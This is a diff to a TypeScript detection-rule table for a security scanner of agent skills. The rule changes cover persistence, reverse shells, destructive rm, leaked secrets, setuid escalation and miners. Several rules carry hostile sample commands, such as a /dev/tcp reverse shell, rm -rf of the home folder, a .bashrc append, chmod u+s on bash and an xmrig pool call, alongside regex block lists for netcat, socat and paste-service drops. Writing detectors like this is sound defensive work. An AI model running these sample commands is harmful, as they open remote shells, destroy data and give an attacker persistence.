@@ -6,8 +6,13 @@
  */
 import { HOME_DIR, RUNS_INPUT, type ClassSpec } from './scannerFragments';
 
-/** Verbs that change a file, followed by at most five words (no clause break) before its name. */
-const MODIFIES = /(?:>>?\s*|\btee\s+(?:-a\s+)?|\b(?:write|writes|append|add|insert|modify|edit|update|overwrite|change|replace|rewrite|patch|cp|mv|echo|sed\s+-i)\b(?:\s+[^\s,;]+){0,5}?\s+)\S*?/.source;
+/**
+ * A verb that changes a file (any tense), then up to 80 characters without a clause break
+ * before its name; or a redirection or `tee` straight into it.
+ */
+const MODIFIES = /(?:>>?\s*|\btee\s+(?:-a\s+)?|\b(?:writ(?:e|es|ing|ten)|append(?:s|ed|ing)?|prepend(?:s|ed|ing)?|add(?:s|ed|ing)?|insert(?:s|ed|ing)?|inject(?:s|ed|ing)?|modif(?:y|ies|ied|ying|ication)|edit(?:s|ed|ing)?|updat(?:e|es|ed|ing)|overwrit(?:e|es|ing|ten)|chang(?:e|es|ed|ing)|replac(?:e|es|ed|ing)|rewrit(?:e|es|ing|ten)|alter(?:s|ed|ing)?|patch(?:es|ed|ing)?|cp|mv|echo|sed\s+-i)\b[^\n,;]{0,80}?)\S*?/.source;
+/** A shell command that writes into a file: redirection, `tee`, `sed -i`, or `cp`/`mv` onto it. */
+const SHELL_WRITES = /(?:>>?\s*|\btee\s+(?:-a\s+)?|\bsed\b[^\n]*\s(?:-[a-z]*i[a-z]*|--in-place)\b[^\n]*?\s|\b(?:cp|mv)\s+[^\s|;&]+\s+[^\n|;&]*?)\S*?/.source;
 const SHELL = /(?:sudo\s+(?:-\S+\s+)*)?(?:\S*\/)?(?:ba|z|da|k)?sh\b/.source;
 
 export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
@@ -19,6 +24,7 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
     benign: 'Read AGENTS.md and SOUL.md to learn the conventions; .hermes/config.yaml holds the settings.',
     patterns: [
       ['agent_instruction_files', ['agents.md', 'claude.md', '.cursorrules', '.clinerules'], new RegExp(`${MODIFIES}(?:\\bAGENTS\\.md|\\bCLAUDE\\.md|\\.cursorrules|\\.clinerules)\\b`), "writes another agent's standing instructions"],
+      ['other_agent_config_write', ['.claude/', '.codex/'], new RegExp(`${SHELL_WRITES}(?:\\.claude\\/settings|\\.codex\\/config)`), "shell write into another coding agent's configuration"],
       ['agent_config_persist', ['.hermes/config', 'soul.md', '.knack/'], new RegExp(`${MODIFIES}(?:\\.hermes\\/config\\.ya?ml|\\bSOUL\\.md\\b|\\.knack\\/(?:config|settings))`), "changes the agent's own configuration or persona"],
       ['ssh_authorized_keys', ['authorized_keys'], /\bauthorized_keys\b/, 'touches SSH authorized_keys'],
       ['sudoers_modify', ['sudoers', 'visudo'], /\/etc\/sudoers|\bvisudo\b/, 'changes sudoers'],
@@ -26,10 +32,11 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
   },
   {
     id: 'startup_persistence', category: 'persistence', severity: 'high',
-    summary: "writes a shell start-up file or another coding agent's settings",
+    summary: "writes a shell start-up file or another coding agent's settings, or dictates what an agent instruction file says",
     example: 'echo "alias ls=x" >> ~/.bashrc',
     benign: 'Open a new terminal so ~/.bashrc is read again; .claude/settings.json lists the tools.',
     patterns: [
+      ['agent_file_contents', ['agents.md', 'claude.md', '.cursorrules', '.clinerules'], /(?:AGENTS\.md|CLAUDE\.md|\.cursorrules|\.clinerules)\b.{0,40}?\b(?:should|must|needs?\s+to)\s+(?:contain|say|include|have|list)\b/, 'dictates what an agent instruction file must say'],
       ['shell_rc_modify', ['rc', 'profile'], /(?:>>?|\btee\b)[^\n]*(?:\.bashrc|\.zshrc|\.bash_profile|\.zprofile|\.profile|\.bash_login)\b/, 'writes to a shell start-up file'],
       ['other_agent_config', ['.claude/', '.codex/'], new RegExp(`${MODIFIES}(?:\\.claude\\/settings|\\.codex\\/config)`), "changes another coding agent's configuration"],
     ],
@@ -80,42 +87,42 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
   // ---- network: listeners, shells and tunnels
   {
     id: 'reverse_shell', category: 'network', severity: 'critical',
-    summary: 'netcat/socat listeners, /dev/tcp shells, socket one-liners',
+    summary: 'netcat listeners, socat, /dev/tcp shells, socket one-liners',
     example: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
     benign: 'Use socket timeouts of 30 seconds in the client.',
     patterns: [
-      ['reverse_shell', ['nc', 'netcat', 'socat'], /\b(?:nc|ncat|netcat)\b[^\n]*\s-[a-z]*[le][a-z]*\b|\bsocat\b[^\n]*\b(?:exec|pty|tcp[46]?(?:-listen)?):/, 'netcat/socat listener or reverse shell'],
+      ['reverse_shell', ['nc', 'netcat', 'socat'], /\b(?:nc|ncat|netcat)\b[^\n]*\s-[a-z]*[lep][a-z]*\b|\bsocat\b/, 'netcat listener or socat relay (reverse shell)'],
       ['bash_dev_tcp', ['/dev/tcp', '/dev/udp'], /\/dev\/(?:tcp|udp)\//, 'bash /dev/tcp connection (reverse shell)'],
       ['python_socket_oneliner', ['socket'], /\bpython[0-9.]*\s+-c\s+['"][^\n]*\bsocket\b/, 'python one-liner opening a socket'],
     ],
   },
   {
     id: 'network_exposure', category: 'network', severity: 'high',
-    summary: 'raw socket connects, tunnels, request-capture and paste services',
+    summary: 'raw socket connects, listeners on every interface, tunnels, request-capture and paste services',
     example: 'ngrok http 8080',
     benign: 'Paste the error message into the issue.',
     patterns: [
       ['socket_connect', ['connect'], /\.connect\s*\(\s*\(/, 'raw socket connect((host, port))'],
-      ['tunnel_service', ['ngrok', 'localtunnel', 'serveo', 'cloudflared', '--port'], /\b(?:ngrok|localtunnel|serveo\.net|cloudflared\s+tunnel)\b|\blt\s+--port\b/, 'exposes a local port through a tunnel'],
+      ['bind_all_interfaces', ['0.0.0.0', 'inaddr_any'], /\b0\.0\.0\.0:\d+|INADDR_ANY/, 'listens on every network interface'],
+      ['tunnel_service', ['ngrok', 'localtunnel', 'serveo', 'cloudflared', '--port'], /\b(?:ngrok|localtunnel|serveo|cloudflared)\b|\blt\s+--port\b/, 'exposes a local port through a tunnel'],
       ['webhook_capture', ['webhook.site', 'requestbin', 'pipedream', 'hookbin', 'requestcatcher', 'beeceptor'], /\b(?:webhook\.site|requestbin|pipedream\.net|hookbin|requestcatcher|beeceptor)\b/, 'request-capture service'],
       ['paste_service', ['paste', 'hastebin', 'ghostbin', '0x0.st', 'termbin'], /\b(?:pastebin\.com|hastebin|ghostbin|paste\.ee|0x0\.st|termbin\.com)\b/, 'paste service (a common exfiltration drop)'],
     ],
   },
   {
     id: 'hardcoded_endpoint', category: 'network', severity: 'medium',
-    summary: 'hard-coded IP and port, or a listener on every interface',
+    summary: 'hard-coded IP and port',
     example: 'connect to 203.0.113.7:8443',
     benign: 'The dev server runs on http://127.0.0.1:5173 and http://localhost:8080.',
     patterns: [
       ['hardcoded_ip_port', [':'], /\b(?!127\.0\.0\.1\b|0\.0\.0\.0\b)(?:\d{1,3}\.){3}\d{1,3}:\d{2,5}\b/, 'hard-coded IP address and port'],
-      ['bind_all_interfaces', ['0.0.0.0', 'inaddr_any'], /\b0\.0\.0\.0:\d+|\bINADDR_ANY\b/, 'listens on every network interface'],
     ],
   },
 
   // ---- destructive
   {
     id: 'wipe_root_or_home', category: 'destructive', severity: 'critical',
-    summary: 'removes the root, the home folder or anything under it, formats or overwrites disks',
+    summary: 'removes the root, an absolute path outside the temp folders, the home folder or anything under it; formats or overwrites disks',
     example: 'rm -rf $HOME/projects',
     benign: 'rm -rf ./build node_modules/.cache',
     patterns: [
@@ -123,19 +130,30 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
       ['destructive_home_rm', ['rm'], new RegExp(`\\brm\\s+(?:-{1,2}[\\w-]+\\s+)+${HOME_DIR}\\/?\\*?["']?(?=\\s|$|;|&|\\|)`), 'rm -rf of the home folder'],
       // Anything under the home folder, removed recursively: a project, the documents, a dotfolder.
       ['destructive_home_subdir_rm', ['rm'], new RegExp(`\\brm\\s+(?=(?:-{1,2}[\\w-]+\\s+)*?-(?:[a-z]*r[a-z]*|-recursive)\\b)(?:-{1,2}[\\w-]+\\s+)+${HOME_DIR}\\/["']?[\\w.*-]`), 'recursive rm of a folder under the home folder'],
+      // Any absolute path but the temp roots, as the Hermes guard rates it: `rm -rf /etc`.
+      ['destructive_abs_rm', ['rm'], /\brm\s+(?:-{1,2}[\w-]+\s+)*-[a-z]*(?:rf|fr)[a-z]*\s+(?:-{1,2}[\w-]+\s+)*["']?\/(?!(?:var\/)?tmp\b|dev\/shm\b|run\b)/, 'rm -rf of an absolute path outside the temp folders'],
+      ['destructive_home_var_rm', ['rm'], /\b(?:rm\s+(?:-\S*)?r|rmdir\s).*\$\{?HOME/, 'recursive rm or rmdir on a line that names $HOME'],
       ['mkfs_format', ['mkfs'], /\bmkfs(?:\.\w+)?\b/, 'formats a filesystem'],
       ['dd_to_device', ['of=/dev/'], /\bdd\b[^\n]*\bof=\/dev\/(?:sd|nvme|hd|disk|mmcblk|xvd|vd)/, 'writes raw data over a disk'],
     ],
   },
   {
-    id: 'system_file_damage', category: 'destructive', severity: 'high',
-    summary: 'overwrites /etc, removes trees from a root or home path in Python, truncates system files',
+    id: 'system_file_overwrite', category: 'destructive', severity: 'critical',
+    summary: 'overwrites a file under /etc or truncates a system file (/var/log…)',
     example: 'echo x > /etc/hosts',
-    benign: 'Read /etc/hosts to see the local names.',
+    benign: 'Read /etc/hosts to see the local names; logs are in /var/log/syslog.',
     patterns: [
       ['write_etc', ['/etc/'], />\s*\/etc\//, 'overwrites a file under /etc'],
-      ['python_rmtree_root', ['rmtree'], /\bshutil\.rmtree\s*\(\s*(?:['"](?:\/|~|[a-z]:\\)|os\.path\.expanduser\s*\(\s*['"]~['"]\s*\))/, 'shutil.rmtree of a root or home folder'],
-      ['truncate_root', ['truncate'], /\btruncate\s+-s\s*0\s+\//, 'truncates system files'],
+      ['truncate_root', ['truncate'], /\btruncate\s+(?:-\S+\s+)*?-s\s*0\s+\//, 'truncates system files'],
+    ],
+  },
+  {
+    id: 'system_file_damage', category: 'destructive', severity: 'high',
+    summary: 'shutil.rmtree of a literal path or of the home folder',
+    example: 'shutil.rmtree("/var/lib/app")',
+    benign: 'shutil.rmtree(build_dir, ignore_errors=True)',
+    patterns: [
+      ['python_rmtree_root', ['rmtree'], /\bshutil\.rmtree\s*\(\s*(?:['"/]|os\.path\.expanduser\s*\(\s*['"]~['"]\s*\))/, 'shutil.rmtree of a literal path or the home folder'],
     ],
   },
   {
@@ -177,7 +195,7 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
     example: 'api_key = "abcdefghijklmnopqrstuvwxyz123456"',
     benign: 'api_key = os.environ.get("SERVICE_URL")',
     patterns: [
-      ['hardcoded_secret', ['key', 'token', 'secret', 'passw'], /\b(?:api[_-]?key|secret(?:[_-]?key)?|access[_-]?token|auth[_-]?token|token|passw(?:or)?d)\b['"]?\s*[:=]\s*['"][A-Za-z0-9+/_.=-]{20,}['"]/, 'secret value written into the skill'],
+      ['hardcoded_secret', ['key', 'token', 'secret', 'passw'], /(?:api[_-]?key|secret|token|passw(?:or)?d)['"]?\s*[:=]\s*['"][A-Za-z0-9+/_.=-]{20,}/, 'secret value written into the skill'],
       ['private_key_block', ['private'], /-----BEGIN\s+(?:[A-Z]+\s+)?PRIVATE\s+KEY(?:\s+BLOCK)?-----/, 'private key'],
     ],
   },
@@ -187,14 +205,14 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
     example: 'export SLACK_BOT=xoxb-123456789012-123456789012-abcdefghijklmnopqrstuvwx',
     benign: 'Slack bot tokens start with xoxb-, GitLab ones with glpat-, test keys look like sk_test_4eC39HqLyjWDarjtT1zdp7dc; see sk-learn and hf_hub_download.',
     patterns: [
-      ['github_token', ['gh', 'github_pat_'], /\b(?:ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36}\b|\bgithub_pat_[A-Za-z0-9_]{22,}/, 'GitHub token'],
-      ['gitlab_token', ['glpat-'], /\bglpat-[A-Za-z0-9_-]{20,}/, 'GitLab personal access token'],
+      ['github_token', ['gh', 'github_pat_'], /(?:ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{22,}/, 'GitHub token'],
+      ['gitlab_token', ['glpat-'], /glpat-[A-Za-z0-9_-]{20,}/, 'GitLab personal access token'],
       ['slack_token', ['xox'], /\bxox[baprs]-[A-Za-z0-9-]{10,}/, 'Slack token'],
       ['stripe_live_key', ['_live_'], /\b[rs]k_live_[A-Za-z0-9]{16,}/, 'Stripe live secret or restricted key'],
       ['google_api_key', ['aiza'], /\bAIza[0-9A-Za-z_-]{35}(?![0-9A-Za-z_-])/, 'Google API key', { confirm: /^AIza/ }],
-      ['openai_key', ['sk-'], /\bsk-(?!ant-)(?:(?:proj|svcacct|admin)-[A-Za-z0-9_-]{20,}|(?=[A-Za-z0-9_-]*\d)[A-Za-z0-9_-]{20,})/, 'OpenAI API key (classic or project)'],
+      ['openai_key', ['sk-'], /\bsk-(?!ant-)(?:(?:proj|svcacct|admin)-[A-Za-z0-9_-]{20,}|(?=[A-Za-z0-9_-]*\d)[A-Za-z0-9_-]{20,})|sk-[A-Za-z0-9]{20,}/, 'OpenAI API key (classic or project)'],
       ['anthropic_key', ['sk-ant-'], /\bsk-ant-(?:(?:api|admin|oat)\d{2}-[A-Za-z0-9_-]{20,}|[A-Za-z0-9_-]{80,})/, 'Anthropic API key'],
-      ['aws_access_key', ['akia'], /\bAKIA[0-9A-Z]{16}\b/, 'AWS access key id', { confirm: /^AKIA/ }],
+      ['aws_access_key', ['akia'], /AKIA[0-9A-Z]{16}/, 'AWS access key id'],
       ['huggingface_token', ['hf_'], /\bhf_[A-Za-z0-9]{30,}\b/, 'Hugging Face token'],
       ['npm_token', ['npm_'], /\bnpm_[A-Za-z0-9]{36}\b/, 'npm access token'],
     ],
@@ -210,12 +228,12 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
   },
   {
     id: 'deep_traversal', category: 'traversal', severity: 'high',
-    summary: 'deep relative paths out of the skill (not Markdown link targets) and process internals',
+    summary: 'deep relative paths out of the skill (not Markdown link targets) and process internals (/proc/self, /proc/<pid>)',
     example: 'open("../../../etc/hosts")',
     benign: 'See [the shared guide](../../../shared/guide.md) and [notes](../notes.md).',
     patterns: [
       ['path_traversal_deep', ['../'], /\.\.\/\.\.\/\.\./, 'deep relative path (../../..)', { linkTargetExempt: true }],
-      ['proc_self_access', ['/proc/self'], /\/proc\/self\//, 'reads process internals'],
+      ['proc_self_access', ['/proc/'], /\/proc\/(?:self|\d+\/)/, 'reads process internals'],
     ],
   },
   {
@@ -232,13 +250,13 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
   // ---- privilege escalation
   {
     id: 'privilege_persistence', category: 'privilege_escalation', severity: 'critical',
-    summary: 'setuid bits, setuid calls, password-less sudo',
+    summary: 'setuid bits, setuid/setgid calls or capabilities, password-less sudo',
     example: 'chmod u+s /bin/bash',
     benign: 'chmod u+x scripts/run.sh',
     patterns: [
-      ['setuid_setgid', ['set'], /\b(?:os\.)?set(?:e|re|res)?[ug]id\s*\(/, 'changes the process user or group'],
+      ['setuid_setgid', ['set'], /\b(?:os\.)?set(?:e|re|res)?[ug]id\s*\(|set[ug]id/, 'setuid or setgid: changes the process user or group'],
       ['nopasswd_sudo', ['nopasswd'], /\bNOPASSWD\b/, 'password-less sudo rule'],
-      ['chmod_setuid', ['chmod'], /\bchmod\s+(?:-R\s+)?(?:[ugoa]*\+[rwx]*s|[246][0-7]{3})\b/, 'sets the setuid/setgid bit'],
+      ['chmod_setuid', ['chmod'], /\bchmod\s+(?:-R\s+)?(?:[ugoa]*\+[rwx]*s|u?s|[246][0-7]{3}\b)/, 'sets the setuid/setgid bit'],
     ],
   },
   {
@@ -262,7 +280,7 @@ export const SYSTEM_CLASS_SPECS: readonly ClassSpec[] = [
     summary: 'cryptocurrency miners and mining pools',
     example: './xmrig -o stratum+tcp://pool.example:3333',
     benign: 'Mine the logs for the slowest requests.',
-    patterns: [['crypto_miner', ['xmrig', 'stratum', 'coinhive', 'cryptonight', 'minerd', 'cpuminer', 'monero'], /\b(?:xmrig|stratum\+tcp|coinhive|cryptonight|minerd|cpuminer|monero)\b/, 'cryptocurrency miner']],
+    patterns: [['crypto_miner', ['xmrig', 'stratum', 'coinhive', 'cryptonight', 'minerd', 'cpuminer', 'monero'], /\b(?:xmrig|stratum\+tcp|coinhive|cryptonight|minerd|cpuminer|monero)/, 'cryptocurrency miner']],
   },
   {
     id: 'mining_vocabulary', category: 'mining', severity: 'medium',
